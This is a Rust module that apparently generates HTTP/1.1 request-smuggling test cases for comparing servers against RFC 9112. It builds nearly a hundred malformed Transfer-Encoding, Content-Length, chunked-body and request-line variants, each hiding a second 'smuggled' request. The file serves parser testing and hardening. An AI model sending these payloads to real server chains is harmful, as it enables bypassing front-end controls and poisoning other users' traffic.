//! Requests that two servers may read in two ways, each with another request hidden where one of the readings ends.
//!
//! By the reading of RFC 9112 the hidden one is never a request of its own: it lies in a body, or behind something that must be
//! refused. Whoever executes it has been smuggled past.

/// The request that must never be made. Where the noughts are stands which shape hides it.
const HIDDEN: &str = "GET /smuggled-000 HTTP/1.1\r\nHost: a\r\n\r\n";

/// A name for people, and the bytes.
pub(crate) type Shape = (String, Vec<u8>);

/// Ways to write the encoding that not everybody reads as it.
const ENCODINGS: [&str; 33] = [
    "Transfer-Encoding: chunked",
    "transfer-encoding: chunked",
    "TRANSFER-ENCODING: CHUNKED",
    "Transfer-Encoding: Chunked",
    "Transfer-Encoding : chunked",
    "Transfer-Encoding\t: chunked",
    "Transfer-Encoding:chunked",
    "Transfer-Encoding:\tchunked",
    "Transfer-Encoding:  chunked",
    "Transfer-Encoding: chunked\t",
    "Transfer-Encoding: \x0bchunked",
    "Transfer-Encoding: \x0cchunked",
    "Transfer-Encoding: chunked\x0b",
    "Transfer-Encoding: \"chunked\"",
    "Transfer-Encoding: 'chunked'",
    "Transfer-Encoding: xchunked",
    "Transfer-Encoding: chunkedx",
    "Transfer-Encoding: chunked;q=1",
    "Transfer-Encoding: chunked, identity",
    "Transfer-Encoding: identity, chunked",
    "Transfer-Encoding: chunked, chunked",
    "Transfer-Encoding: , chunked",
    "Transfer-Encoding: chunked,",
    "Transfer-Encoding: gzip, chunked",
    "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding:\r\n chunked",
    "X: a\r\n Transfer-Encoding: chunked",
    "X: a\nTransfer-Encoding: chunked",
    "X: a\rTransfer-Encoding: chunked",
    "X: a\0\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: ",
];

/// Ways to write a length of which some read another one, or none. `N` stands for the number.
const LENGTHS: [&str; 31] = [
    "Content-Length: +N",
    "Content-Length: -N",
    "Content-Length: N, N",
    "Content-Length: N, 0",
    "Content-Length: 0, N",
    "Content-Length: N;",
    "Content-Length: N;a=b",
    "Content-Length: \"N\"",
    "Content-Length: 0xN",
    "Content-Length: 0N",
    "Content-Length: N.0",
    "Content-Length: Ne0",
    "Content-Length: N N",
    "Content-Length: N\t0",
    "Content-Length: \x0bN",
    "Content-Length: N\x0b",
    "Content-Length: \x0cN",
    "Content-Length: N\0",
    "Content-Length: \u{664}",
    "Content-Length: ",
    "Content-Length: N_0",
    "Content-Length : N",
    "Content-Length\t: N",
    "Content-Length\0: N",
    "Content-Length: 0\r\nContent-Length: N",
    "Content-Length: N\r\nContent-Length: 0",
    "Content-Length: N\r\ncontent-length: 0",
    "Content-Length:\r\n N",
    "X: a\r\n Content-Length: N",
    "X: a\nContent-Length: N",
    "X: a\rContent-Length: N",
];

/// Bodies in chunks that are no good, of which a lenient reader makes an end and then the hidden request. `H` stands for it.
const CHUNKS: [&str; 30] = [
    "0\n\nH",
    "0\r\rH",
    "0\n\r\nH",
    "0\r\n\nH",
    "0;\n\r\n\r\nH",
    "0;a=\"\n\"\r\n\r\nH",
    "0;a\rb\r\n\r\nH",
    "0 \n\r\nH",
    "\n0\r\n\r\nH",
    "\r\n0\r\n\r\nH",
    " 0\r\n\r\nH",
    "+0\r\n\r\nH",
    "-0\r\n\r\nH",
    "0x0\r\n\r\nH",
    "0_0\r\n\r\nH",
    "0.0\r\n\r\nH",
    "\"0\"\r\n\r\nH",
    "\x0b0\r\n\r\nH",
    "0\x0b\r\n\r\nH",
    "0\0\r\n\r\nH",
    "G\r\n\r\nH",
    "\r\n\r\nH",
    ";\r\n\r\nH",
    "-1\r\n\r\nH",
    "ffffffffffffffff\r\nH",
    "10000000000000000\r\n\r\nH",
    "80000000000000000000000000000000\r\n\r\nH",
    "1\r\na0\r\n\r\nH",
    "1\r\na\n0\r\n\r\nH",
    "1\r\naX\r\n0\r\n\r\nH",
];

/// First lines and line ends of which some find two requests in one.
const HEADS: [&str; 26] = [
    "GET /x HTTP/1.1\nHost: a\n\nH",
    "GET /x HTTP/1.1\r\nHost: a\n\r\nH",
    "GET /x HTTP/1.1\r\nHost: a\r\n\nH",
    "GET /x HTTP/1.1\r\nHost: a\r\r\n\r\nH",
    "GET /x HTTP/1.1\r\nHost: a\r\rH",
    "GET /x HTTP/1.1\rHost: a\r\r\nH",
    "GET /x\r\nHost: a\r\n\r\nH",
    "GET /x\r\n\r\nH",
    "GET /x HTTP/0.9\r\nHost: a\r\n\r\nH",
    "GET /x HTTP/2.0\r\nHost: a\r\n\r\nH",
    "GET /x HTTP/1.10\r\nHost: a\r\n\r\nH",
    "GET /x HTTP/1.1 HTTP/1.1\r\nHost: a\r\n\r\nH",
    "GET /x  HTTP/1.1\r\nHost: a\r\n\r\nH",
    "GET\t/x\tHTTP/1.1\r\nHost: a\r\n\r\nH",
    "GET /x http/1.1\r\nHost: a\r\n\r\nH",
    "G\0T /x HTTP/1.1\r\nHost: a\r\n\r\nH",
    "GET /x\0 HTTP/1.1\r\nHost: a\r\n\r\nH",
    "GET http://a@b/x HTTP/1.1\r\nHost: a\r\n\r\nH",
    "GET http://b\\x HTTP/1.1\r\nHost: a\r\n\r\nH",
    "GET http:/x HTTP/1.1\r\nHost: a\r\n\r\nH",
    "CONNECT b:80 HTTP/1.1\r\nHost: a\r\n\r\nH",
    "GET /x HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\nH",
    "GET /x HTTP/1.1\r\n Host: a\r\n\r\nH",
    "GET /x HTTP/1.1\r\n: a\r\n\r\nH",
    "GET /x HTTP/1.1\r\nHost: a\r\nX\r\n\r\nH",
    "GET /x HTTP/1.1\r\nHost: a, b\r\n\r\nH",
];

/// All of them.
pub(crate) fn shapes() -> Vec<Shape> {
    let mut shapes = Vec::new();
    let mut add = |name: String, text: String| {
        let numbered = text.replace("-000", &format!("-{:03}", shapes.len()));
        shapes.push((name, numbered.into_bytes()));
    };
    // One reads a length, another an encoding: whichever is believed, the other finds the hidden request.
    let (by_length, by_chunks) = (format!("0\r\n\r\n{HIDDEN}"), in_a_chunk());
    for encoding in ENCODINGS {
        for (body, length) in [(&by_length, by_length.len()), (&by_chunks, 4)] {
            let framing = format!("Content-Length: {length}\r\n{encoding}");
            add(format!("length {length}, then {encoding:?}"), post(&framing, body));
            let framing = format!("{encoding}\r\nContent-Length: {length}");
            add(format!("{encoding:?}, then length {length}"), post(&framing, body));
        }
        // Alone: in a chunk it is part of the body, and to whoever reads no encoding there is no body at all.
        add(format!("{encoding:?}"), post(encoding, &by_chunks));
    }
    for length in LENGTHS {
        let framing = length.replace('N', &HIDDEN.len().to_string());
        add(format!("POST, {length:?}"), post(&framing, HIDDEN));
        add(format!("GET, {length:?}"), format!("GET /x HTTP/1.1\r\nHost: a\r\n{framing}\r\n\r\n{HIDDEN}"));
    }
    for chunks in CHUNKS {
        add(format!("chunks {chunks:?}"), post("Transfer-Encoding: chunked", &chunks.replace('H', HIDDEN)));
    }
    for head in HEADS {
        // Only the last letter: method names and `Host` have it too.
        let text = head.strip_suffix('H').expect("it ends with it");
        add(format!("head {text:?}"), format!("{text}{HIDDEN}"));
    }
    shapes
}

fn post(framing: &str, body: &str) -> String {
    format!("POST /x HTTP/1.1\r\nHost: a\r\n{framing}\r\n\r\n{body}")
}

/// The hidden request as the inside of a chunk.
fn in_a_chunk() -> String {
    format!("{:x}\r\n{HIDDEN}\r\n0\r\n\r\n", HIDDEN.len())
}
